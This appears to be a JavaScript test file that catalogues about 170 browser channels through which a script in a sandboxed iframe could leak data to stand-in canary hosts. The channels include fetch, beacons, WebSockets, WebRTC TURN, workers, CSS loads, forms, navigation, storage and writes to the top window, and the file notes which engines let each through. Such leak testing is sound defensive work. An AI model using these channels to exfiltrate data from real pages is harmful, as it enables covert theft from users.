// Every way out that is known to be tried, as data.
//
// `id` goes into every address (`http://clinic.localhost/sealed-<id>`, `http(s)://sealed-<id>.canary.test/`) and into everything that is stored or posted.
// `arrives` names the engines in which the same attempt arrives from a frame without a seal: the proof that it can.
// `connects` names the engines that open a connection to a TLS host before, or without, asking the policy (https://github.com/whatwg/html/issues/9035):
// the host's name gets out, no request does. A page whose frame the clinic serves with the header `Connection-Allowlist: ()` closes that too.
// `once` runs at one address; `leaves` runs in a visit of its own, since it may end the frame or waits for a quiet page.
// `late` is sent when the page is left.
// `open` says why no policy can forbid it.
const attempts = [
    // Requests of a script
    { id: 'fetch', arrives: 'all', run: url => fetch(url) },
    { id: 'fetch-no-cors', arrives: 'all', run: url => fetch(url, { mode: 'no-cors' }) },
    { id: 'fetch-post', arrives: 'all', run: url => fetch(url, { method: 'POST', body: 'answer=yes' }) },
    { id: 'fetch-keepalive', arrives: 'all', run: url => fetch(url, { keepalive: true }) },
    { id: 'fetch-later', arrives: 'chromium', run: url => fetchLater(url, { activateAfter: 0 }).activated },
    { id: 'xhr', arrives: 'all', run: url => { const request = new XMLHttpRequest(); request.open('GET', url); request.send(); return first(request, 'load', 'error'); } },
    { id: 'xhr-sync', arrives: 'all', run: url => { const request = new XMLHttpRequest(); request.open('GET', url, false); request.send(); return request.status; } },
    { id: 'beacon', arrives: 'all', run: url => navigator.sendBeacon(url, 'answer=yes') },
    { id: 'beacon-on-leaving', late: true, arrives: 'all', run: url => { addEventListener('pagehide', () => navigator.sendBeacon(url, 'answer=yes')); return 'listens'; } },
    { id: 'fetch-on-leaving', late: true, arrives: 'all', run: url => { addEventListener('pagehide', () => fetch(url, { keepalive: true })); return 'listens'; } },
    { id: 'web-socket', arrives: 'all', run: url => first(new WebSocket(url.replace('http', 'ws')), 'open', 'error') },
    { id: 'web-socket-stream', arrives: 'chromium', run: url => new WebSocketStream(url.replace('http', 'ws')).opened },
    { id: 'event-source', arrives: 'all', run: url => first(new EventSource(url), 'open', 'error') },
    { id: 'web-transport', arrives: 'firefox', once: true, run: url => new WebTransport(url.replace('http:', 'https:')).ready },
    { id: 'webrtc-stun', arrives: 'chromium firefox', once: true, run: (url, { stun }) => gather(window, `stun:${stun}`) },
    { id: 'webrtc-turn', arrives: 'chromium firefox', once: true, run: (url, { token }) => gather(window, `turn:${token}.canary.test:443?transport=tcp`) },
    { id: 'webrtc-of-new-frame', arrives: 'chromium firefox', once: true, run: (url, { token }) => {
        const fresh = make('iframe');
        document.body.append(fresh);
        return gather(fresh.contentWindow, `turn:${token}.canary.test:443?transport=tcp`);
    } },
    { id: 'webrtc-in-new-frame', arrives: 'chromium firefox', once: true, run: (url, { token }) =>
        frame({ srcdoc: `<script>(${gather})(window, 'turn:${token}.canary.test:443?transport=tcp')</script>` }) },

    // Scripts and what runs them
    { id: 'script', arrives: 'all', run: src => put('script', { src }) },
    { id: 'script-module', arrives: 'all', run: src => put('script', { src, type: 'module' }) },
    { id: 'script-inline', arrives: 'all', run: url => { put('script', {}, `fetch('${url}')`); return 'put'; } },
    { id: 'script-blob', arrives: 'all', run: url => put('script', { src: blob(`fetch('${url}')`, 'text/javascript') }) },
    { id: 'script-data', arrives: 'all', run: url => put('script', { src: `data:text/javascript,fetch('${url}')` }) },
    { id: 'script-svg', arrives: 'all', run: href => { document.body.append(svg('svg', {}, svg('script', { href }))); return 'put'; } },
    { id: 'import', arrives: 'all', run: url => import(url) },
    { id: 'import-inline', arrives: 'all', run: url => put('script', { type: 'module' }, `import '${url}'`) },
    { id: 'import-map', arrives: 'all', run: (url, { token }) => {
        put('script', { type: 'importmap' }, JSON.stringify({ imports: { [url + token]: url } }));
        return put('script', { type: 'module' }, `import '${url + token}'`);
    } },
    { id: 'eval', arrives: 'all', run: url => window.eval(`fetch('${url}')`) },
    { id: 'function', arrives: 'all', run: url => new window.Function(`return fetch('${url}')`)() },
    { id: 'timeout-string', arrives: 'all', run: url => window.setTimeout(`fetch('${url}')`) },
    { id: 'handler-attribute', arrives: 'all', run: url => put('img', { src: 'data:,', onerror: `fetch('${url}')` }) },
    { id: 'javascript-url', arrives: 'all', run: url => frame({ src: `javascript:fetch('${url}')` }) },
    { id: 'worker', arrives: 'all', run: url => first(new Worker(url), 'message', 'error') },
    { id: 'worker-blob', arrives: 'all', run: url => first(new Worker(blob(`fetch('${url}')`, 'text/javascript')), 'message', 'error') },
    { id: 'worker-data', arrives: 'all', run: url => first(new Worker(`data:text/javascript,fetch('${url}')`), 'message', 'error') },
    { id: 'worker-import', arrives: 'all', run: url => first(new Worker(blob(`importScripts('${url}')`, 'text/javascript')), 'message', 'error') },
    { id: 'shared-worker', arrives: 'all', run: url => first(new SharedWorker(url), 'error') },
    { id: 'shared-worker-blob', arrives: 'all', run: url => first(new SharedWorker(blob(`fetch('${url}')`, 'text/javascript')), 'error') },
    { id: 'service-worker', arrives: 'chromium firefox', run: url => navigator.serviceWorker.register(url) },
    { id: 'paint-worklet', arrives: 'chromium', run: url => CSS.paintWorklet.addModule(url) },
    { id: 'audio-worklet', arrives: 'all', run: url => new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(url) },

    // Styles and what they fetch
    { id: 'stylesheet', arrives: 'all', run: url => link('stylesheet', url) },
    { id: 'stylesheet-alternate', arrives: 'all', run: url => link('alternate stylesheet', url, { title: 'other' }) },
    { id: 'style-import', arrives: 'all', run: url => put('style', {}, `@import '${url}';`) },
    { id: 'style-attribute', arrives: 'all', run: url => { document.body.append(make('p', { style: `background: url('${url}')` }, 'box')); return 'put'; } },
    { id: 'style-background', arrives: 'all', run: url => style('background-image', `url('${url}')`) },
    { id: 'style-image-set', arrives: 'all', run: url => style('background-image', `image-set('${url}' 1x)`) },
    { id: 'style-list', arrives: 'all', run: url => style('list-style-image', `url('${url}')`) },
    { id: 'style-cursor', arrives: 'all', run: url => style('cursor', `url('${url}'), auto`) },
    { id: 'style-border', arrives: 'all', run: url => style('border-image', `url('${url}') 1 / 4px`) },
    { id: 'style-shape', arrives: 'all', run: url => style('shape-outside', `url('${url}')`) },
    { id: 'style-mask', arrives: 'all', run: url => style('mask-image', `url('${url}')`) },
    { id: 'style-clip', arrives: 'chromium firefox', run: url => style('clip-path', `url('${url}#clip')`) },
    { id: 'style-filter', arrives: 'chromium firefox', run: url => style('filter', `url('${url}#filter')`) },
    { id: 'style-content', arrives: 'all', run: url => style('content', `url('${url}')`) },
    { id: 'style-sheet', arrives: 'all', run: url => { put('p', { class: 'sheet-' + url.length }, 'box'); return sheet(`.sheet-${url.length} { background: url('${url}') }`); } },
    { id: 'font-face', arrives: 'all', run: url => new FontFace('answer', `url('${url}')`).load() },
    { id: 'font-face-rule', arrives: 'all', run: (url, { token }) => {
        const family = token + url.length;
        const said = sheet(`@font-face { font-family: '${family}'; src: url('${url}') }`);
        style('font-family', `'${family}'`);
        return said;
    } },

    // Elements
    { id: 'image', arrives: 'all', run: src => first(Object.assign(new Image(), { src }), 'load', 'error') },
    { id: 'image-srcset', arrives: 'all', run: url => put('img', { srcset: `${url} 1x` }) },
    { id: 'image-lazy', arrives: 'all', run: src => { const end = put('img', { src, loading: 'lazy', width: 9, height: 9 }); document.body.lastChild.scrollIntoView(); return end; } },
    { id: 'image-attribution', arrives: 'all', run: src => put('img', { src, attributionsrc: src }) },
    { id: 'picture', arrives: 'all', run: url => { const box = make('picture'); box.append(make('source', { srcset: url }), make('img')); document.body.append(box); return first(box.lastChild, 'load', 'error'); } },
    { id: 'input-image', arrives: 'all', run: src => put('input', { type: 'image', src }) },
    { id: 'background-attribute', arrives: 'all', run: url => put('table', { background: url }, 'box') },
    { id: 'svg-image', arrives: 'all', run: href => { document.body.append(svg('svg', {}, svg('image', { href, width: 9, height: 9 }))); return 'put'; } },
    { id: 'svg-use', arrives: 'all', run: url => { document.body.append(svg('svg', {}, svg('use', { href: `${url}#part` }))); return 'put'; } },
    { id: 'svg-fe-image', arrives: 'all', run: href => {
        const id = `filter-${href.length}`;
        document.body.append(svg('svg', {}, svg('filter', { id }, svg('feImage', { href })), svg('rect', { filter: `url(#${id})`, width: 9, height: 9 })));
        return 'put';
    } },
    { id: 'video', arrives: 'all', run: src => put('video', { src, preload: 'auto' }) },
    { id: 'video-poster', arrives: 'all', run: poster => put('video', { poster }) },
    { id: 'audio', arrives: 'all', run: src => put('audio', { src, preload: 'auto' }) },
    { id: 'track', arrives: 'all', run: src => {
        const video = make('video', { crossorigin: 'anonymous', src: 'data:video/mp4,' });
        video.append(make('track', { src, default: '', kind: 'subtitles' }));
        document.body.append(video);
        video.textTracks[0].mode = 'showing';
        return first(video.firstChild, 'load', 'error');
    } },
    { id: 'object', arrives: 'all', run: data => put('object', { data }) },
    { id: 'embed', arrives: 'all', run: src => put('embed', { src }) },
    { id: 'base', arrives: 'all', run: url => { document.head.prepend(make('base', { href: url })); const end = put('img', { src: url.slice(url.indexOf('//')) }); document.querySelector('base').remove(); return end; } },
    { id: 'markup', arrives: 'all', run: url => { const box = make('div'); document.body.append(box); box.innerHTML = `<img src="${url}">`; return 'put'; } },
    { id: 'parser', arrives: 'all', run: url => { new DOMParser().parseFromString(`<img src="${url}">`, 'text/html').body.childNodes.forEach(node => document.body.append(document.adoptNode(node))); return 'put'; } },
    { id: 'xslt', arrives: 'chromium firefox', run: url => {
        const style = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="${url}"/></xsl:stylesheet>`;
        const processor = new XSLTProcessor();
        processor.importStylesheet(new DOMParser().parseFromString(style, 'application/xml'));
        return processor.transformToDocument(document);
    } },

    // Frames
    { id: 'frame', arrives: 'all', connects: 'chromium', run: src => frame({ src }) },
    { id: 'frame-loose', arrives: 'all', run: url => frame({ srcdoc: loose(url) }) },
    { id: 'frame-unsandboxed', arrives: 'all', run: url => frame({ srcdoc: loose(url), sandbox: 'allow-scripts allow-same-origin allow-popups allow-top-navigation allow-forms' }) },
    { id: 'frame-script', arrives: 'all', run: url => frame({ srcdoc: `<script>fetch('${url}')</script>` }) },
    { id: 'frame-blob', arrives: 'all', run: url => frame({ src: blob(loose(url), 'text/html') }) },
    { id: 'frame-data', arrives: 'all', run: url => frame({ src: `data:text/html,${encodeURIComponent(loose(url))}` }) },
    { id: 'frame-refresh', arrives: 'all', connects: 'chromium', run: url => frame({ srcdoc: `<meta http-equiv="refresh" content="0;url=${url}">` }) },
    { id: 'fenced-frame', arrives: '', run: src => put('fencedframe', { src }) },
    { id: 'portal', arrives: '', run: src => put('portal', { src }) },

    // Hints
    { id: 'prefetch', leaves: true, arrives: 'chromium firefox', run: url => link('prefetch', url) },
    { id: 'prefetch-document', leaves: true, arrives: 'chromium firefox', run: url => link('prefetch', url, { as: 'document' }) },
    { id: 'preload', arrives: 'all', run: url => link('preload', url, { as: 'image' }) },
    { id: 'preload-fetch', arrives: 'all', run: url => link('preload', url, { as: 'fetch', crossorigin: 'anonymous' }) },
    { id: 'module-preload', arrives: 'all', run: url => link('modulepreload', url) },
    { id: 'dns-prefetch', arrives: '', run: url => link('dns-prefetch', url) },
    { id: 'link-shown', arrives: '', run: href => { document.body.append(make('a', { href }, 'a link')); return 'put'; } },
    { id: 'preconnect', arrives: 'chromium', connects: 'chromium', run: url => link('preconnect', url) },
    { id: 'prerender', arrives: '', run: url => link('prerender', url) },
    { id: 'icon', arrives: '', run: url => link('icon', url) },
    { id: 'manifest', arrives: '', run: url => link('manifest', url) },
    { id: 'speculation-prefetch', arrives: '', run: url => { put('script', { type: 'speculationrules' }, JSON.stringify({ prefetch: [{ urls: [url], eagerness: 'immediate' }] })); return 'put'; } },
    { id: 'speculation-prerender', arrives: '', run: url => { put('script', { type: 'speculationrules' }, JSON.stringify({ prerender: [{ urls: [url], eagerness: 'immediate' }] })); return 'put'; } },

    // Reports
    { id: 'report-uri', arrives: '', run: url => {
        document.head.append(make('meta', { 'http-equiv': 'Content-Security-Policy', content: `manifest-src 'none'; report-uri ${url}` }));
        return link('manifest', '/manifest');
    } },
    // What a report quotes, where the page's own policy asks for one: `reports.rs` has such pages
    { id: 'sink', arrives: '', once: true, run: (url, { token }) => { const box = make('p'); document.body.append(box); box.innerHTML = token; return 'put'; } },
    { id: 'policy-name', arrives: '', once: true, run: (url, { token }) => trustedTypes.createPolicy(token, {}) && 'made' },
    { id: 'script-sample', arrives: '', once: true, run: (url, { token }) => { put('script', {}, `'${token}'`); return 'put'; } },
    { id: 'eval-sample', arrives: '', once: true, run: (url, { token }) => window.eval(`'${token}'`) },
    { id: 'style-sample', arrives: '', once: true, run: (url, { token }) => { put('style', {}, `/*${token}*/`); return 'put'; } },
    { id: 'base-address', leaves: true, arrives: '', once: true, run: href => { document.head.prepend(make('base', { href })); return 'put'; } },
    { id: 'image-scheme', arrives: '', once: true, run: (url, { token }) => put('img', { src: `${token}:/` }) },
    { id: 'fetch-scheme', arrives: '', once: true, run: (url, { token }) => fetch(`${token}:/`) },

    // Doors to other services of the browser
    { id: 'payment', arrives: 'chromium', run: url => new PaymentRequest([{ supportedMethods: url }], { total: { label: 'answer', amount: { currency: 'USD', value: '1' } } }).canMakePayment() },
    { id: 'credential', arrives: 'chromium', run: url => navigator.credentials.get({ identity: { providers: [{ configURL: url, clientId: 'answer' }] } }) },
    { id: 'protocol-handler', arrives: '', run: url => navigator.registerProtocolHandler('web+answer', `${url}?%s`) },
    { id: 'clipboard-read', arrives: '', run: () => navigator.clipboard.readText() },
    { id: 'presentation', arrives: '', run: url => new PresentationRequest([url]).getAvailability() },
    { id: 'notification', arrives: '', run: icon => String(new Notification('answer', { icon })) },

    // What stays on the machine, where the host page would find it
    { id: 'local-storage', arrives: 'all', once: true, run: (url, { token }) => localStorage.setItem(token, 'yes') },
    { id: 'session-storage', arrives: 'all', once: true, run: (url, { token }) => sessionStorage.setItem(token, 'yes') },
    { id: 'indexed-db', arrives: 'all', once: true, run: (url, { token }) => first(indexedDB.open(token), 'success', 'error') },
    { id: 'cache', arrives: 'all', once: true, run: (url, { token }) => caches.open(token) },
    { id: 'private-files', arrives: 'chromium firefox', once: true, run: async (url, { token }) => (await navigator.storage.getDirectory()).getFileHandle(token, { create: true }) },
    { id: 'cookie', arrives: 'all', once: true, run: (url, { token }) => { document.cookie = `${token}=yes`; return document.cookie; } },
    { id: 'cookie-store', arrives: 'chromium firefox', once: true, run: (url, { token }) => cookieStore.set(token, 'yes') },
    { id: 'lock', arrives: 'all', once: true, run: (url, { token }) => { const held = navigator.locks.request(token, () => new Promise(() => {})); return Promise.race([held, after(200).then(() => 'holds')]); } },
    { id: 'broadcast', arrives: 'all', once: true, run: (url, { token }) => new BroadcastChannel('answers').postMessage(token) },
    { id: 'storage-access', arrives: '', once: true, run: () => document.requestStorageAccess() },

    // What the host page could read
    { id: 'host-title', arrives: 'all', once: true, run: (url, { token }) => { top.document.title += ` ${token}`; } },
    { id: 'host-markup', arrives: 'all', once: true, run: (url, { token }) => { top.document.body.dataset[token.replaceAll('-', '')] = token; } },
    { id: 'host-name', arrives: 'all', once: true, run: (url, { token }) => { top.name += ` ${token}`; } },
    { id: 'host-hash', arrives: 'all', once: true, run: (url, { token }) => { top.location.hash = token; } },
    { id: 'host-history', arrives: 'all', once: true, run: (url, { token }) => top.history.replaceState({ ...top.history.state, [token]: 'yes' }, '') },
    { id: 'host-event', arrives: 'all', once: true, run: (url, { token }) => top.dispatchEvent(new top.CustomEvent('answer', { detail: token })) },
    { id: 'frame-element', arrives: 'all', once: true, run: (url, { token }) => { frameElement.title = token; } },
    { id: 'own-name', arrives: 'all', once: true, run: (url, { token }) => { window.name = token; return name; } },

    // What no policy forbids: the code in the frame, which the script's one hash covers, is what never does it
    { id: 'post-top', open: 'any frame may post to any window it can reach; the visits show that ours does not', arrives: 'all', once: true, run: (url, { token }) => top.postMessage({ answer: token }, '*') },
    { id: 'post-parent', arrives: 'all', open: 'the parent is the outer frame, which listens to its port alone', once: true, run: (url, { token }) => parent.postMessage({ answer: token }, '*') },

    // Ways that may end the frame
    { id: 'location', leaves: true, arrives: 'all', connects: 'chromium', run: url => { location = url; } },
    { id: 'location-assign', leaves: true, arrives: 'all', connects: 'chromium', run: url => location.assign(url) },
    { id: 'location-replace', leaves: true, arrives: 'all', connects: 'chromium', run: url => location.replace(url) },
    { id: 'location-blob', leaves: true, arrives: 'all', run: url => location.assign(blob(loose(url), 'text/html')) },
    { id: 'location-data', leaves: true, arrives: 'all', run: url => location.assign(`data:text/html,${encodeURIComponent(loose(url))}`) },
    { id: 'location-javascript', leaves: true, arrives: 'all', run: url => location.assign(`javascript:fetch('${url}')`) },
    { id: 'location-protocol', leaves: true, arrives: '', run: (url, { token }) => location.assign(`web+answer:${token}`) },
    { id: 'own-hash', leaves: true, arrives: 'all', run: (url, { token }) => { location.hash = token; } },
    { id: 'own-history', leaves: true, arrives: '', run: (url, { token }) => history.pushState({ token }, '', `?${token}`) },
    { id: 'navigation', leaves: true, arrives: 'chromium firefox', connects: 'chromium', run: url => { navigation.navigate(url); } },
    { id: 'meta-refresh', leaves: true, arrives: 'all', connects: 'chromium', run: url => { document.head.append(make('meta', { 'http-equiv': 'refresh', content: `0;url=${url}` })); return 'put'; } },
    { id: 'document-write', leaves: true, arrives: 'all', run: url => { document.open(); document.write(loose(url)); document.close(); return 'written'; } },
    { id: 'link-click', leaves: true, arrives: 'all', connects: 'chromium', run: href => click('a', { href }) },
    { id: 'link-new', leaves: true, arrives: 'chromium firefox', run: href => click('a', { href, target: '_blank' }) },
    { id: 'link-top', leaves: true, arrives: 'all', run: href => click('a', { href, target: '_top' }) },
    { id: 'link-parent', leaves: true, arrives: 'all', run: href => click('a', { href, target: '_parent' }) },
    { id: 'link-ping', leaves: true, arrives: 'chromium webkit', run: ping => click('a', { href: '#', ping }) },
    { id: 'link-download', leaves: true, arrives: 'all', connects: 'chromium', run: href => click('a', { href, download: 'answer' }) },
    { id: 'link-attribution', leaves: true, arrives: 'chromium firefox', run: href => click('a', { href, target: '_blank', attributionsrc: href }) },
    { id: 'link-svg', leaves: true, arrives: 'all', connects: 'chromium', run: href => { const a = svg('a', { href }); document.body.append(svg('svg', {}, a)); a.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true })); return 'clicked'; } },
    { id: 'form-get', leaves: true, arrives: 'all', run: action => submit('get', { action }) },
    { id: 'form-post', leaves: true, arrives: 'all', run: action => submit('post', { action }) },
    { id: 'form-new', leaves: true, arrives: 'chromium firefox', run: action => submit('post', { action, target: '_blank' }) },
    { id: 'form-top', leaves: true, arrives: 'all', run: action => submit('post', { action, target: '_top' }) },
    { id: 'form-button', leaves: true, arrives: 'all', run: formaction => { const form = make('form'); const button = make('button', { formaction }); form.append(button); document.body.append(form); button.click(); return 'clicked'; } },
    { id: 'window-open', leaves: true, arrives: 'chromium firefox', run: url => String(open(url)) },
    { id: 'window-open-self', leaves: true, arrives: 'all', connects: 'chromium', run: url => String(open(url, '_self')) },
    { id: 'window-open-top', leaves: true, arrives: 'all', run: url => String(open(url, '_top')) },
    { id: 'top-location', leaves: true, arrives: 'all', run: url => { top.location = url; } },
    { id: 'top-replace', leaves: true, arrives: 'all', run: url => top.location.replace(url) },
    { id: 'parent-location', leaves: true, arrives: 'all', run: url => { parent.location = url; } },
];
